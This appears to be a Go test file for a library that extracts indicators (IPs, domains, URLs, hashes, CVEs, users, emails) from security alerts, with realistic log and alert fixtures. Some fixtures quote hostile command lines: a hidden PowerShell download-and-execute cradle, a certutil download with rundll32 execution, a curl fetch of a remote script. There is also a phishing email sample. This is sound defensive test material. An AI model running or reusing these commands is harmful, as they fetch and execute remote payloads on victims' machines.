package entities

import (
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"
)

func ip4(v string) Entity    { return Entity{IPv4, v} }
func ip6(v string) Entity    { return Entity{IPv6, v} }
func dom(v string) Entity    { return Entity{Domain, v} }
func url(v string) Entity    { return Entity{URL, v} }
func host(v string) Entity   { return Entity{Hostname, v} }
func user(v string) Entity   { return Entity{User, v} }
func md5(v string) Entity    { return Entity{MD5, v} }
func sha1(v string) Entity   { return Entity{SHA1, v} }
func sha256(v string) Entity { return Entity{SHA256, v} }
func cve(v string) Entity    { return Entity{CVE, v} }
func email(v string) Entity  { return Entity{Email, v} }

func assertEntities(t *testing.T, got, want []Entity) {
	t.Helper()
	if len(got) == 0 && len(want) == 0 {
		return
	}
	if !reflect.DeepEqual(got, want) {
		var g, w strings.Builder
		for _, e := range got {
			fmt.Fprintf(&g, "\n\t%s(%q)", e.Type, e.Value)
		}
		for _, e := range want {
			fmt.Fprintf(&w, "\n\t%s(%q)", e.Type, e.Value)
		}
		t.Errorf("got:%s\nwant:%s", g.String(), w.String())
	}
}

// Realistic alert texts, asserted exactly.
func TestExtractRealistic(t *testing.T) {
	tests := []struct {
		name string
		text string
		want []Entity
	}{
		{
			name: "EDR process creation (Sysmon 1)",
			text: `Process Create: RuleName: technique_id=T1059.001 UtcTime: 2024-05-01 12:34:56.789 ` +
				`ProcessGuid: {a1b2c3d4-1111-2222-3333-444455556666} ProcessId: 4242 ` +
				`Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe FileVersion: 10.0.19041.546 ` +
				`CommandLine: powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('hxxp://185.220.101.4/stage2.ps1')" ` +
				`CurrentDirectory: C:\Users\alice\ User: CORP\alice LogonId: 0x3E7 ` +
				`Hashes: SHA1=5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8,MD5=5F4DCC3B5AA765D61D8327DEB882CF99,` +
				`SHA256=EF92B778BAFE771E89245B89ECBC08A44A4E166C06659911881F383D4473E94F,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744 ` +
				`ParentImage: C:\Windows\System32\cmd.exe ParentCommandLine: cmd.exe /c start /b svchost.dll`,
			want: []Entity{
				url("http://185.220.101.4/stage2.ps1"),
				ip4("185.220.101.4"),
				user(`CORP\alice`),
				sha1("5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8"),
				md5("5f4dcc3b5aa765d61d8327deb882cf99"),
				sha256("ef92b778bafe771e89245b89ecbc08a44a4e166c06659911881f383d4473e94f"),
			},
		},
		{
			name: "EDR certutil download and rundll32",
			text: `"C:\Windows\System32\certutil.exe" -urlcache -split -f https://cdn-update.example-cdn.top/files/update.bin C:\ProgramData\update.dll && ` +
				`rundll32.exe C:\ProgramData\update.dll,DllRegisterServer \\10.10.5.20\share\payload.exe`,
			want: []Entity{
				url("https://cdn-update.example-cdn.top/files/update.bin"),
				dom("cdn-update.example-cdn.top"),
				ip4("10.10.5.20"),
			},
		},
		{
			name: "Suricata fast.log alert",
			text: `05/01/2024-12:34:56.789012  [**] [1:2031071:2] ET MALWARE Cobalt Strike Beacon Observed [**] ` +
				`[Classification: A Network Trojan was detected] [Priority: 1] {TCP} 10.20.30.40:49822 -> 45.137.21.9:443`,
			want: []Entity{ip4("10.20.30.40"), ip4("45.137.21.9")},
		},
		{
			name: "Suricata signature text with CVE and broadcast",
			text: `ET EXPLOIT Apache log4j RCE Attempt - 2021/12/10 Obfuscation Observed (CVE-2021-44228) M2; ` +
				`ET POLICY Possible Kali Linux hostname in DHCP Request Packet {UDP} 0.0.0.0:68 -> 255.255.255.255:67; ` +
				`ET MALWARE Observed Malicious SSL Cert (update-check.example.xyz)`,
			want: []Entity{cve("CVE-2021-44228"), dom("update-check.example.xyz")},
		},
		{
			name: "phishing e-mail with defanged URLs",
			text: "From: \"IT Support\" <it-support@micros0ft-helpdesk.com>\n" +
				"To: bob.smith@corp.example.com\n" +
				"Subject: Action required: your password expires today\n\n" +
				"Dear user,\nVerify your account at hxxps://login.micros0ft-helpdesk[.]com/verify?id=8842 immediately.\n" +
				"Alternate link: hxxp://198.51.100.23/owa/login.php\n" +
				"If the link does not work, copy evil-login[.]xyz into your browser (or use hXXps://evil-login[.]xyz/).\n" +
				"Attachment: invoice_2024.pdf.html, report.pdf\n",
			want: []Entity{
				email("it-support@micros0ft-helpdesk.com"),
				dom("micros0ft-helpdesk.com"),
				email("bob.smith@corp.example.com"),
				dom("corp.example.com"),
				url("https://login.micros0ft-helpdesk.com/verify?id=8842"),
				dom("login.micros0ft-helpdesk.com"),
				url("http://198.51.100.23/owa/login.php"),
				ip4("198.51.100.23"),
				dom("evil-login.xyz"),
				url("https://evil-login.xyz/"),
			},
		},
		{
			name: "Windows 4625 event text",
			text: "An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18\r\n\tAccount Name:\t\tWS01$\r\n" +
				"\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x3E7\r\n\r\nLogon Type:\t\t\t3\r\n\r\n" +
				"Account For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\tadministrator\r\n" +
				"\tAccount Domain:\t\tCORP\r\n\r\nFailure Information:\r\n\tFailure Reason:\t\tUnknown user name or bad password.\r\n" +
				"\r\nNetwork Information:\r\n\tWorkstation Name:\tKALI\r\n\tSource Network Address:\t203.0.113.77\r\n" +
				"\tSource Port:\t\t51514\r\n\r\nDetailed Authentication Information:\r\n\tLogon Process:\t\tNtLmSsp \r\n" +
				"\tAuthentication Package:\tNTLM\r\n\tPackage Name (NTLM only):\t-\r\n\tKey Length:\t\t0\r\n",
			want: []Entity{user("WS01$"), user("administrator"), ip4("203.0.113.77")},
		},
		{
			name: "Windows 4624 rendered XML",
			text: `<EventData><Data Name="SubjectUserName">-</Data><Data Name="TargetUserName">svc_sql</Data>` +
				`<Data Name="TargetDomainName">CORP</Data><Data Name="WorkstationName">SQL01</Data>` +
				`<Data Name="IpAddress">::ffff:10.0.8.15</Data><Data Name="IpPort">50412</Data></EventData>`,
			want: []Entity{user("svc_sql"), ip4("10.0.8.15")},
		},
		{
			name: "Linux auth.log",
			text: "Jan 12 03:14:15 web01 sshd[2211]: Failed password for invalid user oracle from 198.51.100.23 port 50122 ssh2\n" +
				"Jan 12 03:14:16 web01 sshd[2213]: Invalid user  from 198.51.100.23 port 50124\n" +
				"Jan 12 03:14:20 web01 sshd[2215]: Accepted publickey for deploy from 10.0.4.12 port 60022 ssh2: RSA SHA256:Zm9vYmFyYmF6cXV4\n" +
				"Jan 12 03:15:01 web01 CRON[2301]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n" +
				"Jan 12 03:16:44 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=backup ; COMMAND=/usr/bin/curl -o /tmp/x hxxp://files.bad-cdn[.]top/x.sh\n" +
				"Jan 12 03:17:02 web01 sshd[2290]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=admin\n" +
				"Jan 12 03:17:05 web01 sshd[2291]: Accepted password for Alice from 2001:db8:10::15 port 40222 ssh2\n",
			want: []Entity{
				user("oracle"),
				ip4("198.51.100.23"),
				user("deploy"),
				ip4("10.0.4.12"),
				user("root"),
				user("backup"),
				url("http://files.bad-cdn.top/x.sh"),
				dom("files.bad-cdn.top"),
				ip4("203.0.113.9"),
				user("admin"),
				user("Alice"),
				ip6("2001:db8:10::15"),
			},
		},
		{
			name: "CEF firewall event",
			text: `CEF:0|Palo Alto Networks|PAN-OS|10.1|THREAT|url|5|src=10.1.1.20 dst=93.184.216.34 suser=corp\jdoe ` +
				`request=http://www.example.com/dl/Invoice.zip cs1=Block spt=51000 dpt=80 fileHash=44d88612fea8a8f36de82e1278abb02f`,
			want: []Entity{
				ip4("10.1.1.20"),
				ip4("93.184.216.34"),
				user(`corp\jdoe`),
				url("http://www.example.com/dl/Invoice.zip"),
				dom("www.example.com"),
				md5("44d88612fea8a8f36de82e1278abb02f"),
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), tt.want)
		})
	}
}

// Things that look like indicators but are not: each text yields nothing.
func TestExtractFalsePositives(t *testing.T) {
	tests := []struct{ name, text string }{
		{"version strings", "openssl 1.2.3 and 1.1 and v2.4.1.0 build 10.0.19041.546 Chrome/120.0.6099.109 kernel 5.15.0.91"},
		{"four-part versions", "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089; version 10.2.3.4; 1.0.0.0"},
		{"leading zeros and too many parts", "010.001.002.003 1.2.3.4.5 OID 1.3.6.1.4.1.311.21.8 256.1.1.1"},
		{"placeholder addresses", "0.0.0.0 255.255.255.255 :: [::]"},
		{"file names", "cmd.exe report.pdf svchost.dll a.js invoice.docx.exe C:\\Windows\\System32\\ntdll.dll data.json backup.tar.gz"},
		{"file names with ccTLD-like extensions", "install.sh main.py lib.rs notes.zip clip.mov Makefile.in module.pm README.md libfoo.so script.ps"},
		{"field names", "user.name event.id host.email process.group dns.question.name"},
		{"code and namespaces", "New-Object System.Net.WebClient; [System.IO.File]::ReadAllBytes; console.log(x); element.click(); $wc.DownloadString"},
		{"mixed-case word joins", "Done.Click here.Please found.Online"},
		{"timestamps", "12:34:56 2024-05-01T12:34:56.789Z 03:14:15.123456 Jan 12 03:14:15"},
		{"MAC addresses", "00:1a:2b:3c:4d:5e 00-1A-2B-3C-4D-5E 001a.2b3c.4d5e 00:11:22:33:44:55:66:77"},
		{"scope operators", "[Convert]::FromBase64String [Math]::Add std::string a::b Foo::Bar"},
		{"long hex", strings.Repeat("ab12", 32) + " " + strings.Repeat("0f", 48)},
		{"hex inside words", "0x5f4dcc3b5aa765d61d8327deb882cf99 g5f4dcc3b5aa765d61d8327deb882cf99 5f4dcc3b5aa765d61d8327deb882cf99z"},
		{"degenerate hex", strings.Repeat("a", 32) + " " + strings.Repeat("0", 40) + " 12345678901234567890123456789012 abcdefabcdefabcdefabcdefabcdefab"},
		{"fingerprints", "IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744 imphash: f34d5f2d4577ed6d9ceec516c1f5a744 " +
			"JA3 e7d705a3286e19ea42f587b344ee6865 ja3s=ec74a5c51106f0419184d0dd08fb05bc"},
		{"GUIDs", "{6B29FC40-CA47-1067-B31D-00DD010662DA} 6b29fc40-ca47-1067-b31d-00dd010662da"},
		{"malformed CVEs", "CVE-2021-123 CVE-21-1234 xCVE-2021-1234 CVE-2021-44228x CVE-1850-1234"},
		{"plain words are not users", "the user admin logged in; Dear user, your account root; User-Agent: curl; /home/user/x; logname= uid=0"},
		{"placeholder users", "user=- Account Name: - user=N/A User: (null) user=1000 user=$USER user=%username% user=S-1-5-18"},
		{"invalid e-mails", "bad@localhost x@y.exe @example.com a..b@example.com .a@example.com"},
		{"not URLs", "http:// https://${HOST}/x xhttp://intranet file:///etc/passwd"},
		{"no TLD", "intranet.lab router.home printer.whatever"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), nil)
		})
	}
}

func TestExtractIPs(t *testing.T) {
	tests := []struct {
		text string
		want []Entity
	}{
		{"10.0.0.1", []Entity{ip4("10.0.0.1")}},
		{"src 192.168.1.10:443, dst 10.0.0.1.", []Entity{ip4("192.168.1.10"), ip4("10.0.0.1")}},
		{"range 10.0.0.1-10.0.0.5 net 192.168.1.0/24", []Entity{ip4("10.0.0.1"), ip4("10.0.0.5"), ip4("192.168.1.0")}},
		{"10.0.0.0/8 is a network", nil},
		{"loopback 127.0.0.1 and ::1", []Entity{ip4("127.0.0.1"), ip6("::1")}},
		{"2001:DB8:0:0:0:0:0:1", []Entity{ip6("2001:db8::1")}},
		{"link-local fe80::1%eth0, other fe80::2%25.", []Entity{ip6("fe80::1%eth0"), ip6("fe80::2%25")}},
		{"mapped ::ffff:192.0.2.1 embedded 64:ff9b::192.0.2.33", []Entity{ip4("192.0.2.1"), ip6("64:ff9b::c000:221")}},
		{"[2001:db8::1]:443 and Src:2001:db8:1::5 and Address:2001:db8::7", []Entity{ip6("2001:db8::1"), ip6("2001:db8:1::5"), ip6("2001:db8::7")}},
		{"http://[2001:db8::2]:8443/x", []Entity{url("http://[2001:db8::2]:8443/x"), ip6("2001:db8::2")}},
		{"http://10.0.0.7:8080/a and 10.0.0.7", []Entity{url("http://10.0.0.7:8080/a"), ip4("10.0.0.7")}},
		{"defanged 203.0.113[.]9 and 203[.]0[.]113[.]10", []Entity{ip4("203.0.113.9"), ip4("203.0.113.10")}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), tt.want)
		})
	}
}

func TestExtractURLsAndDomains(t *testing.T) {
	tests := []struct {
		text string
		want []Entity
	}{
		{"(see https://example.com/a).", []Entity{url("https://example.com/a"), dom("example.com")}},
		{"<https://example.com/b>, 'https://example.com/c';", []Entity{url("https://example.com/b"), dom("example.com"), url("https://example.com/c")}},
		{"https://en.wikipedia.org/wiki/Foo_(bar) and [x](https://example.net/y)", []Entity{
			url("https://en.wikipedia.org/wiki/Foo_(bar)"), dom("en.wikipedia.org"), url("https://example.net/y"), dom("example.net")}},
		{`"https://q.example.com/?a=1&b=2" ftp://files.example.org/pub/a.zip,`, []Entity{
			url("https://q.example.com/?a=1&b=2"), dom("q.example.com"), url("ftp://files.example.org/pub/a.zip"), dom("files.example.org")}},
		{"hxxps[:]//bad[.]example[.]ru/x and fxp://drop(.)example{.}net/y", []Entity{
			url("https://bad.example.ru/x"), dom("bad.example.ru"), url("ftp://drop.example.net/y"), dom("drop.example.net")}},
		{"https://user:pw@intranet/ http://localhost:8080/x", []Entity{url("https://user:pw@intranet/"), url("http://localhost:8080/x")}},
		{"https://transfer.sh/abc/x.sh and install.sh", []Entity{url("https://transfer.sh/abc/x.sh"), dom("transfer.sh")}},
		{"https://example.com/login?user=bob&next=http://evil.example.net/", []Entity{
			url("https://example.com/login?user=bob&next=http://evil.example.net/"), dom("example.com")}},
		{"https://www.virustotal.com/gui/file/ef92b778bafe771e89245b89ecbc08a44a4e166c06659911881f383d4473e94f", []Entity{
			url("https://www.virustotal.com/gui/file/ef92b778bafe771e89245b89ecbc08a44a4e166c06659911881f383d4473e94f"),
			dom("www.virustotal.com"),
			sha256("ef92b778bafe771e89245b89ecbc08a44a4e166c06659911881f383d4473e94f")}},
		{"EVIL.COM, Google.com and evil.com.", []Entity{dom("evil.com"), dom("google.com")}},
		{"dc01.corp.local ip-10-0-1-5.ec2.internal xn--80ak6aa92e.com", []Entity{
			dom("dc01.corp.local"), dom("ip-10-0-1-5.ec2.internal"), dom("xn--80ak6aa92e.com")}},
		{"www.google.pl google.co.in shop.com.py", []Entity{dom("www.google.pl"), dom("google.co.in"), dom("shop.com.py")}},
		{`\\fileserver.corp.example.com\share evil.com:8443`, []Entity{dom("fileserver.corp.example.com"), dom("evil.com")}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), tt.want)
		})
	}
}

func TestExtractHashesCVEsEmails(t *testing.T) {
	tests := []struct {
		text string
		want []Entity
	}{
		{"md5 44D88612FEA8A8F36DE82E1278ABB02F sha1:3395856ce81f2b7382dee72602f798b642f14140 " +
			"sha256=275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f.",
			[]Entity{md5("44d88612fea8a8f36de82e1278abb02f"), sha1("3395856ce81f2b7382dee72602f798b642f14140"),
				sha256("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")}},
		{`C:\Users\bob\AppData\Local\Temp\44d88612fea8a8f36de82e1278abb02f.exe`, []Entity{md5("44d88612fea8a8f36de82e1278abb02f")}},
		{"cve-2019-0708, CVE-2024-3094 and Cve-2023-1234567; CVE-2024-12345678 is too long", []Entity{
			cve("CVE-2019-0708"), cve("CVE-2024-3094"), cve("CVE-2023-1234567")}},
		{"mailto:John.Doe+tag@Example.COM, finance@sub.example.co.uk.", []Entity{
			email("john.doe+tag@example.com"), dom("example.com"), email("finance@sub.example.co.uk"), dom("sub.example.co.uk")}},
		{"reply to billing[@]pay-invoice[.]xyz", []Entity{email("billing@pay-invoice.xyz"), dom("pay-invoice.xyz")}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), tt.want)
		})
	}
}

func TestExtractUsers(t *testing.T) {
	tests := []struct {
		text string
		want []Entity
	}{
		{"user=alice", []Entity{user("alice")}},
		{"User: CORP\\carol logged on", []Entity{user(`CORP\carol`)}},
		{"account name: bob", []Entity{user("bob")}},
		{`user="John Smith" acct='svc-web'`, []Entity{user("John Smith"), user("svc-web")}},
		{"duser=corp\\jdoe suser=ALICE username=alice", []Entity{user(`corp\jdoe`), user("ALICE")}},
		{"sAMAccountName=mallory; user.name: trent", []Entity{user("mallory"), user("trent")}},
		{"Logon Account: victor", []Entity{user("victor")}},
		{"session opened for user www-data by (uid=0)", []Entity{user("www-data")}},
		{"Failed password for root from 203.0.113.4 port 22", []Entity{user("root"), ip4("203.0.113.4")}},
		{"user=alice@corp.example.com", []Entity{email("alice@corp.example.com"), user("alice@corp.example.com"), dom("corp.example.com")}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assertEntities(t, Extract(nil, tt.text), tt.want)
		})
	}
}

func TestExtractHints(t *testing.T) {
	hints := map[string]string{
		"email_to":   "Bob Smith <bob.smith@corp.example.com>, carol@corp.example.com",
		"host":       "WS01.corp.example.com.",
		"user":       " CORP\\alice ",
		"src_ip":     "10.20.30.40:49822",
		"dst_ip":     "[2001:db8::9]",
		"domain":     "Evil-C2[.]xyz",
		"url":        "hxxps://evil-c2[.]xyz/gate.php).",
		"file_hash":  "SHA256=EF92B778BAFE771E89245B89ECBC08A44A4E166C06659911881F383D4473E94F,MD5=5F4DCC3B5AA765D61D8327DEB882CF99",
		"email_from": "\"Payroll\" <payroll@pay-invoice.xyz>",
		"Message":    "beacon from 10.20.30.41",
	}
	text := "host WS01.corp.example.com talked to evil-c2.xyz and 10.20.30.40; user=corp\\ALICE; CVE-2024-3094"
	want := []Entity{
		host("ws01.corp.example.com"),
		user(`CORP\alice`),
		ip4("10.20.30.40"),
		ip6("2001:db8::9"),
		dom("evil-c2.xyz"),
		url("https://evil-c2.xyz/gate.php"),
		sha256("ef92b778bafe771e89245b89ecbc08a44a4e166c06659911881f383d4473e94f"),
		md5("5f4dcc3b5aa765d61d8327deb882cf99"),
		email("payroll@pay-invoice.xyz"),
		dom("pay-invoice.xyz"),
		email("bob.smith@corp.example.com"),
		dom("corp.example.com"),
		email("carol@corp.example.com"),
		ip4("10.20.30.41"),
		cve("CVE-2024-3094"),
	}
	assertEntities(t, Extract(hints, text), want)

	t.Run("host hint that is an address", func(t *testing.T) {
		assertEntities(t, Extract(map[string]string{"host": "10.1.2.3", "src_ip": "not an ip", "dst_ip": "0.0.0.0"}), []Entity{ip4("10.1.2.3")})
	})
	t.Run("bare hostname and odd url", func(t *testing.T) {
		assertEntities(t, Extract(map[string]string{"host": "SQL01", "url": "evil.example.com/x", "user": "-"}),
			[]Entity{host("sql01"), url("evil.example.com/x")})
	})
	t.Run("keys are case-insensitive", func(t *testing.T) {
		assertEntities(t, Extract(map[string]string{"Src_IP": "10.9.8.7"}), []Entity{ip4("10.9.8.7")})
	})
}

func TestExtractOrderAndDedup(t *testing.T) {
	got := Extract(nil,
		"10.0.0.1 cve-2021-44228 10.0.0.1 EVIL.example.com",
		"CVE-2021-44228 evil.example.com 10.0.0.2 user=Bob",
		"user=bob")
	assertEntities(t, got, []Entity{ip4("10.0.0.1"), cve("CVE-2021-44228"), dom("evil.example.com"), ip4("10.0.0.2"), user("Bob")})
	if got := Extract(nil); got == nil || len(got) != 0 {
		t.Errorf("Extract(nil) = %#v, want empty non-nil slice", got)
	}
}

func TestExtractMaxEntities(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 300; i++ {
		fmt.Fprintf(&b, "10.0.%d.%d ", i/250, i%250+1)
	}
	got := Extract(nil, b.String())
	if len(got) != MaxEntities {
		t.Fatalf("len = %d, want %d", len(got), MaxEntities)
	}
	if got[0] != ip4("10.0.0.1") || got[199] != ip4("10.0.0.200") {
		t.Errorf("first/last = %v %v", got[0], got[199])
	}
}

func TestExtractJSON(t *testing.T) {
	doc := `{
	  "@timestamp": "2024-05-01T12:34:56Z",
	  "10.9.9.9": "keys are not scanned: evil.example.com is a value here",
	  "host": {"name": "WS01.corp.example.com", "ip": ["10.20.30.40", "fe80::1"]},
	  "user": {"name": "alice", "domain": "CORP"},
	  "winlog": {"event_data": {"TargetUserName": "bob", "WorkstationName": "KALI", "IpAddress": "203.0.113.77", "SubjectUserName": "-"}},
	  "message": "Beacon to hxxps://evil[.]xyz/a?b=1 from \u0031\u0030.0.0.5 sha1 5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8 \"quoted\" CVE-2021-44228",
	  "tags": ["user=carol", 42, true, null, {"nested": ["mail: dave@example.org"]}],
	  "source.user.name": "erin",
	  "hostname": "localhost",
	  "count": 12
	}`
	want := []Entity{
		dom("evil.example.com"),
		host("ws01.corp.example.com"),
		ip4("10.20.30.40"),
		ip6("fe80::1"),
		user("alice"),
		user("bob"),
		host("kali"),
		ip4("203.0.113.77"),
		url("https://evil.xyz/a?b=1"),
		dom("evil.xyz"),
		ip4("10.0.0.5"),
		sha1("5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8"),
		cve("CVE-2021-44228"),
		user("carol"),
		email("dave@example.org"),
		dom("example.org"),
		user("erin"),
	}
	assertEntities(t, ExtractJSON([]byte(doc)), want)

	tests := []struct {
		name string
		doc  string
		want []Entity
	}{
		{"top-level string", `"see http://example.com/x"`, []Entity{url("http://example.com/x"), dom("example.com")}},
		{"array of strings", `["10.0.0.1", "10.0.0.1", "CVE-2020-0601"]`, []Entity{ip4("10.0.0.1"), cve("CVE-2020-0601")}},
		{"truncated document", `{"a": "10.0.0.1", "b": "ends 10.0.0.2`, []Entity{ip4("10.0.0.1"), ip4("10.0.0.2")}},
		{"escapes do not join strings", `{"a":"10.0.0.","b":"1","c":"x\u0040example.com \ud83d\ude00 \/"}`,
			[]Entity{email("x@example.com"), dom("example.com")}},
		{"keys only", `{"10.0.0.1": 1, "user": null}`, nil},
		{"fingerprint keys", `{"tls":{"client":{"ja3":"e7d705a3286e19ea42f587b344ee6865"}},"pe.imphash":"f34d5f2d4577ed6d9ceec516c1f5a744",` +
			`"hash":{"md5":"44d88612fea8a8f36de82e1278abb02f"}}`, []Entity{md5("44d88612fea8a8f36de82e1278abb02f")}},
		{"not JSON", `plain text 10.0.0.1 without quotes`, nil},
		{"empty", ``, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assertEntities(t, ExtractJSON([]byte(tt.doc)), tt.want)
		})
	}
}

func TestExtractJSONBounded(t *testing.T) {
	// 2 MiB of string values; the IP at the end lies beyond the scan budget.
	var b strings.Builder
	b.WriteString(`{"first":"10.0.0.1","filler":[`)
	chunk := `"` + strings.Repeat("x", 1000) + `",`
	for b.Len() < 2<<20 {
		b.WriteString(chunk)
	}
	b.WriteString(`"10.0.0.2"]}`)
	assertEntities(t, ExtractJSON([]byte(b.String())), []Entity{ip4("10.0.0.1")})

	// Deep nesting neither overflows nor hides shallow values.
	deep := `{"a":"10.0.0.3","b":` + strings.Repeat("[", 100000) + `"10.0.0.4"` + strings.Repeat("]", 100000) + `,"c":"10.0.0.5"}`
	assertEntities(t, ExtractJSON([]byte(deep)), []Entity{ip4("10.0.0.3"), ip4("10.0.0.5")})

	// Extract is bounded the same way.
	big := "10.0.0.1 " + strings.Repeat("y", 2<<20) + " 10.0.0.2"
	assertEntities(t, Extract(nil, big), []Entity{ip4("10.0.0.1")})
}

func TestEntityJSON(t *testing.T) {
	b, err := json.Marshal(Extract(nil, "CVE-2021-44228"))
	if err != nil || string(b) != `[{"type":"cve","value":"CVE-2021-44228"}]` {
		t.Errorf("json = %s, %v", b, err)
	}
	b, _ = json.Marshal(Extract(nil, "nothing here"))
	if string(b) != `[]` {
		t.Errorf("empty json = %s", b)
	}
}

// benchAlert is a ~2 KB alert mixing EDR, network and authentication text.
const benchAlert = `Process Create: RuleName: technique_id=T1059.001,technique_name=PowerShell UtcTime: 2024-05-01 12:34:56.789 ProcessGuid: {a1b2c3d4-1111-2222-3333-444455556666} ProcessId: 4242 Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe FileVersion: 10.0.19041.546 (WinBuild.160101.0800) Description: Windows PowerShell Product: Microsoft Windows Operating System Company: Microsoft Corporation OriginalFileName: PowerShell.EXE CommandLine: powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('hxxp://185.220.101.4/stage2.ps1')" CurrentDirectory: C:\Users\alice\ User: CORP\alice LogonGuid: {a1b2c3d4-0000-0000-0000-000000000000} LogonId: 0x3E7 IntegrityLevel: High Hashes: SHA1=5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8,MD5=5F4DCC3B5AA765D61D8327DEB882CF99,SHA256=EF92B778BAFE771E89245B89ECBC08A44A4E166C06659911881F383D4473E94F,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744 ParentProcessId: 4100 ParentImage: C:\Windows\System32\cmd.exe ParentCommandLine: cmd.exe /c start /b powershell.exe
Network connection detected: Protocol: tcp Initiated: true SourceIp: 10.20.30.40 SourceHostname: WS01.corp.example.com SourcePort: 49822 DestinationIp: 185.220.101.4 DestinationHostname: tor-exit.example.net DestinationPort: 80
Suricata: [1:2031071:2] ET MALWARE Cobalt Strike Beacon Observed [Classification: A Network Trojan was detected] [Priority: 1] {TCP} 10.20.30.40:49822 -> 185.220.101.4:80
Related: CVE-2021-44228 exploited by actor, see hxxps://intel.example[.]org/reports/apt-x?id=42 and contact soc@example.com. Beacon also resolved evil-c2[.]xyz and 2001:db8:dead:beef::10 at 12:34:56.
Linux: Jan 12 03:14:15 web01 sshd[2211]: Failed password for invalid user oracle from 198.51.100.23 port 50122 ssh2
An account failed to log on. Subject: Security ID: S-1-5-18 Account Name: WS01$ Account Domain: CORP Logon ID: 0x3E7 Logon Type: 3 Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: administrator Account Domain: CORP Failure Reason: Unknown user name or bad password. Workstation Name: KALI Source Network Address: 203.0.113.77 Source Port: 51514 Key Length: 0 report.pdf svchost.dll version 1.2.3
`

func BenchmarkExtract(b *testing.B) {
	hints := map[string]string{"host": "WS01.corp.example.com", "user": `CORP\alice`, "src_ip": "10.20.30.40"}
	if n := len(Extract(hints, benchAlert)); n < 20 {
		b.Fatalf("only %d entities", n)
	}
	b.SetBytes(int64(len(benchAlert)))
	b.ReportAllocs()
	for b.Loop() {
		Extract(hints, benchAlert)
	}
}

func BenchmarkExtractJSON(b *testing.B) {
	doc, _ := json.Marshal(map[string]any{
		"host":    map[string]any{"name": "WS01.corp.example.com"},
		"user":    map[string]any{"name": "alice"},
		"message": benchAlert,
	})
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		ExtractJSON(doc)
	}
}

// Pathological inputs must stay linear: each 256 KiB text is scanned in a
// few milliseconds; a quadratic path would take seconds.
func TestExtractAdversarialInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	patterns := []string{
		"a@b.cc fe80::1 ", "http://a.com ", "user=", "sudo: ", "for user ", "0.", ":", "a:", "[.]",
		"1.1.1.1 ", "@", "a.", "::", "1:", "://", "(((", ")))", "hxxp", "cve-", "CVE-2021-", "a@",
		"password for ", "Account Name: ", "\"", "user\">", "fe80::1%", "[2001:db8::1]", "http://[", "http://a@",
		"5f4dcc3b5aa765d61d8327deb882cf99 ",
	}
	for _, p := range patterns {
		s := strings.Repeat(p, (256<<10)/len(p))
		start := time.Now()
		Extract(nil, s)
		ExtractJSON([]byte(`["` + strings.ReplaceAll(s, `"`, `\"`) + `"]`))
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("%q: %v", p, d)
		}
	}
}
